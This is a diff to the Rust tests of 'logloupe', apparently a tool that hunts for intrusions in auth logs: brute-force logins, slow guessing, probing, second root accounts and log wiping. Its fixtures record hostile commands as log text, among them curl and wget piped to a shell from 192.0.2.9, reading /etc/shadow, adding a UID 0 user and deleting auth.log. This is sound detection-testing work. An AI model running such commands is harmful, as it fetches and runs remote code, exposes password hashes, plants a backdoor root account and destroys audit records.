@@ -6,7 +6,7 @@ use std::collections::{BTreeMap, BTreeSet};
 
 use logloupe::config::{HuntSettings, OwnRule};
 use logloupe::format::by_name;
-use logloupe::rule::{BEYOND, Confidence, Finding, Hunt, Hunted, Notes, Scouting};
+use logloupe::rule::{BEYOND, Confidence, Finding, Hunt, HuntFile, Hunted, Notes, Scouting};
 use proptest::{prop_assert, prop_assert_eq, proptest};
 
 /// Hunts through lines, so many a slice.
@@ -57,6 +57,10 @@ fn ok_guessing_then_a_success() {
     assert_eq!(findings[0].seen.first_line, 13);
     assert!(findings[0].because.contains("after 12 failures"), "{}", findings[0].because);
     assert_eq!(findings[1].seen.evidence, [1, 2, 3, 11, 12]);
+    assert!(findings[1].because.starts_with("12 failed logins from one source, of 1 user;"), "{}", findings[1].because);
+    let nobody: String =
+        (0..12).map(|at| line(at, "sshd", "Received disconnect from 192.0.2.9: 3: x: Auth fail [preauth]")).collect();
+    assert!(hunted(&nobody)[0].because.contains("of users that the log does not name;"));
     assert_eq!(findings[1].technique.as_ref().map(|found| found.id.as_ref()), Some("T1110.001"));
 }
 
@@ -101,7 +105,9 @@ fn ok_own_rules_blame_who_it_was() {
     scout.read(text.as_bytes(), &formats);
     hunt.take(&scout.finish());
     let findings = hunt.finish().findings;
-    assert_eq!(found(&findings, "mine").map(|found| found.source.as_str()), Some("10.0.0.15"));
+    let mine = found(&findings, "mine").unwrap();
+    assert_eq!((mine.source.as_str(), mine.user.as_str()), ("10.0.0.15", "x from 9.9.9.9 port 22"));
+    assert_eq!(mine.because, "1 line fulfils your own rule \"mine\".");
 }
 
 #[test]
@@ -134,8 +140,13 @@ fn ok_spraying_and_its_names() {
     assert_eq!((findings.len(), findings[0].kind.as_str(), findings[0].seen.count), (1, "user-enumeration", 6));
 }
 
+/// Three an hour for nine hours are slow; as many within an hour are not, nor are four an hour.
 #[test]
 fn ok_slow_and_low() {
+    let within_a_night: String = (0..27).map(|at| failed(at * 1_210, "ann", "192.0.2.9")).collect();
+    assert_eq!(hunted(&within_a_night)[0].kind, "slow-and-low");
+    let quicker: String = (0..40).map(|at| failed(at * 900, "ann", "192.0.2.9")).collect();
+    assert_eq!(hunted(&quicker)[0].kind, "guessing");
     let slow: String = (0..14).map(|at| failed(at * 7_200, "ann", "192.0.2.9")).collect();
     assert_eq!(hunted(&slow)[0].kind, "slow-and-low");
     let quick: String = (0..12).map(|at| failed(at * 600, "ann", "192.0.2.9")).collect();
@@ -201,6 +212,16 @@ fn ok_single_events() {
             "T1070.002",
             4,
         ),
+        (
+            "sudo",
+            "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/bash -c curl -s http://192.0.2.9/a | bash",
+            "fetched-and-run",
+            "T1059.004",
+            4,
+        ),
+        ("useradd", "new user: name=eve, UID=0, GID=0, home=/root", "second-root", "T1136.001", 5),
+        ("usermod", "change user 'eve' UID from '1001' to '0'", "second-root", "T1136.001", 5),
+        ("usermod", "add \"eve\" to group \"sudo\"", "group-joined", "T1098", 4),
         ("useradd", "new user: name=eve, UID=1001, GID=1001, home=/home/eve", "account-made", "T1136.001", 3),
         ("usermod", "add 'eve' to group 'sudo'", "group-joined", "T1098", 4),
         ("usermod", "add 'eve' to group 'games'", "group-joined", "T1098", 2),
@@ -220,6 +241,93 @@ fn ok_single_events() {
         )),
         []
     );
+}
+
+/// A guessed login, and what was done with it: who did it is named, and the success tells what came after it.
+#[test]
+fn ok_what_follows_a_break_in() {
+    let ran =
+        |at: u32, command: &str| line(at, "sudo", &format!("bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}"));
+    let mut log: String = (0..5).map(|at| failed(at, "bob", "192.0.2.9")).collect();
+    log += &accepted(10, "bob", "192.0.2.9");
+    log += &(ran(20, "/bin/cat /etc/shadow") + &ran(25, "/bin/sh -c wget -qO- http://192.0.2.9/a | sh"));
+    log += &(ran(30, "/usr/sbin/useradd -o -u 0 eve") + &line(31, "useradd", "new user: name=eve, UID=0, GID=0"));
+    log += &(ran(40, "/usr/sbin/usermod -aG sudo eve") + &line(41, "usermod", "add 'eve' to group 'sudo'"));
+    log += &ran(50, "/bin/rm -f /var/log/auth.log");
+    // Seven hours later it is another matter, and another user's deeds are not his.
+    log += &ran(25_300, "/usr/bin/truncate -s 0 /var/log/syslog");
+    log += &line(60, "sudo", "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/useradd carl");
+    log += &line(61, "useradd", "new user: name=carl, UID=1002, GID=1002");
+    let findings = hunted(&log);
+    let because = |kind: &str, user: &str| {
+        let found = findings.iter().find(|found| found.kind == kind && found.user == user);
+        found.unwrap_or_else(|| panic!("{kind} {user}")).because.clone()
+    };
+    let after = because("success-after-failures", "bob");
+    for deed in [
+        "ran what was fetched over the net (/bin/sh -c wget",
+        "gave the account eve all of root's rights",
+        "put eve into the group sudo",
+        "took logs away (/bin/rm -f /var/log/auth.log)",
+        "ran 3 other commands by sudo",
+    ] {
+        assert!(after.contains(deed), "{deed}: {after}");
+    }
+    assert!(!after.contains("carl") && !after.contains("truncate"), "{after}");
+    assert!(because("second-root", "eve").contains("It was bob's command, by sudo."));
+    assert!(because("group-joined", "eve").contains("It was bob's command, by sudo."));
+    assert!(because("account-made", "carl").contains("It was ann's command, by sudo."));
+}
+
+/// On another machine the same name is another user.
+#[test]
+fn ok_what_follows_elsewhere_is_not_told() {
+    let mut log: String = (0..5).map(|at| failed(at, "bob", "192.0.2.9")).collect();
+    log += &accepted(10, "bob", "192.0.2.9");
+    log += &line(20, "sudo", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls").replace("web1", "web2");
+    let findings = hunted(&log);
+    assert!(!found(&findings, "success-after-failures").unwrap().because.contains("Afterwards"));
+}
+
+/// Who guesses and hangs up is no scanner beside it.
+#[test]
+fn ok_closings_after_failures_are_no_probes() {
+    let attempt = |at: u32, tried: bool| {
+        let said = |message: &str| format!("Mar  1 10:00:{:02} web1 sshd[{}]: {message}\n", at % 60, 5_000 + at);
+        let failed = said("Failed password for root from 192.0.2.9 port 22 ssh2");
+        let left = said("Received disconnect from 192.0.2.9 port 22:11: Bye Bye [preauth]")
+            + &said("Disconnected from authenticating user root 192.0.2.9 port 22 [preauth]");
+        if tried { failed + &left } else { left }
+    };
+    let guesser: String = (0..40).map(|at| attempt(at, true)).collect();
+    assert_eq!(hunted(&guesser).iter().map(|found| found.kind.as_str()).collect::<Vec<_>>(), ["guessing"]);
+    let scanner: String = (0..25).map(|at| attempt(at, false)).collect();
+    let findings = hunted(&scanner);
+    assert_eq!((findings[0].kind.as_str(), findings[0].seen.count), ("probing", 25));
+}
+
+/// Two files of one log: the year is the first file's and counted on, lines are told in their files.
+#[test]
+fn ok_files_one_after_the_other() {
+    let formats = [by_name("syslog").unwrap().clone()];
+    let mut hunt = Hunt::new(&HuntSettings::default());
+    let before: String = (0..5).map(|at| failed(at, "ann", "192.0.2.9").replace("Mar  1", "Dec 31")).collect();
+    let after = accepted(0, "ann", "192.0.2.9").replace("Mar  1 10", "Jan  1 02");
+    // The later file was named first, so that its line is the first of all.
+    for (name, first_line, first_ms, text) in
+        [("auth.log.1", 2, 1_735_639_200_000, &before), ("auth.log", 1, 1_735_696_800_000, &after)]
+    {
+        let name = name.to_owned();
+        hunt.begin_file(HuntFile { name, first_line, first_ms: Some(first_ms), zone_ms: 0 });
+        let mut scout = hunt.scout();
+        scout.read_slice(text.as_bytes(), false, text.len(), &formats);
+        hunt.take(&scout.finish());
+    }
+    let hunted = hunt.finish();
+    let success = found(&hunted.findings, "success-after-failures").unwrap();
+    assert_eq!(hunted.place(success.seen.first_line), (Some("auth.log"), 1));
+    // 2025-01-01T02:00:00Z
+    assert_eq!((success.seen.first_ms, hunted.is_undated, hunted.lines), (Some(1_735_696_800_000), false, 6));
 }
 
 #[test]
